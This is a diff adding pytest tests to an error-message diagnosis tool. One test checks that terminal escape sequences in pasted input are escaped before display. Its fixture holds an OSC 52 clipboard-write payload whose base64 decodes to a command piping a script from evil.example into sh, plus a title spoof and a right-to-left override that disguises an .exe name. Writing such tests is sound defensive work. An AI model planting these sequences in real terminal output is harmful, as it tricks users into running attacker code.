@@ -184,3 +184,57 @@ def test_a_generic_answer_is_not_given_to_what_is_not_a_conflict() -> None:
         out = diagnose("--json", "-", stdin=message)
         assert out.returncode == FOUND, message
         assert json.loads(out.stdout)["recognised"] is False
+
+
+def test_control_sequences_in_the_input_never_reach_the_terminal(tmp_path: Path) -> None:
+    """A pasted value holding escape sequences is shown written out, on the terminal and in a page.
+
+    OSC 52 writes the clipboard of a terminal that allows it, OSC 0 its title;
+    0x9b is an 8-bit CSI; U+202E reverses what follows. Before, only colour
+    codes were taken out: the rest reached the terminal as they were.
+    """
+    payload = (
+        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b]0;owned\x1b\\\x9b31m\u202egnp.exe"
+    )
+    message = (
+        'ERROR:  duplicate key value violates unique constraint "users_email_key"\n'
+        f"DETAIL:  Key (email)=({payload}@b.c) already exists.\n"
+    )
+    page_path = tmp_path / "page.html"
+    out = diagnose("--html", str(page_path), "-", stdin=message)
+    assert out.returncode == OK, out.stderr
+    assert "users_email_key" in out.stdout
+    shown = out.stdout + page_path.read_text(encoding="utf-8")
+    for unsafe in ("\x1b", "\x07", "\x9b", "\u202e"):
+        assert unsafe not in shown, repr(unsafe)
+    assert "\\x1b]52;c;" in out.stdout  # written out, so the reader sees what was pasted
+    assert "\\x9b31m\\u202egnp.exe" in page_path.read_text(encoding="utf-8")
+
+
+def test_a_long_message_as_the_argument_is_diagnosed() -> None:
+    """A message longer than a file name may be (255 bytes) is the message, not exit 3."""
+    message = (
+        'Operation cannot be fulfilled on infras.infra.sealos.io "shaotong": the object has '
+        "been modified; please apply your changes to the latest version and try again " + "x" * 300
+    )
+    out = diagnose("--json", message)
+    assert out.returncode == OK, out.stderr
+    assert json.loads(out.stdout)["id"] == "kubernetes-object-modified"
+
+
+def test_a_message_in_latin_1_is_read(tmp_path: Path) -> None:
+    """A server message in an 8-bit code page (SQL Server's, German) reads as in UTF-8."""
+    message = (
+        "Verletzung der PRIMARY KEY-Einschränkung 'PK_Kunden'. Ein doppelter Schlüssel kann in "
+        "das dbo.Kunden-Objekt nicht eingefügt werden. Der doppelte Schlüsselwert ist (4711)."
+    )
+    answers = []
+    for encoding in ("utf-8", "latin-1"):
+        path = tmp_path / f"{encoding}.txt"
+        path.write_bytes(message.encode(encoding))
+        out = diagnose("--json", str(path))
+        assert out.returncode == OK, out.stderr
+        answers.append(json.loads(out.stdout))
+    assert answers[0]["id"] == answers[1]["id"] == "sqlserver-unique-violation"
+    assert answers[0]["details"] == answers[1]["details"]
+    assert answers[1]["details"]["constraint"] == "PK_Kunden"
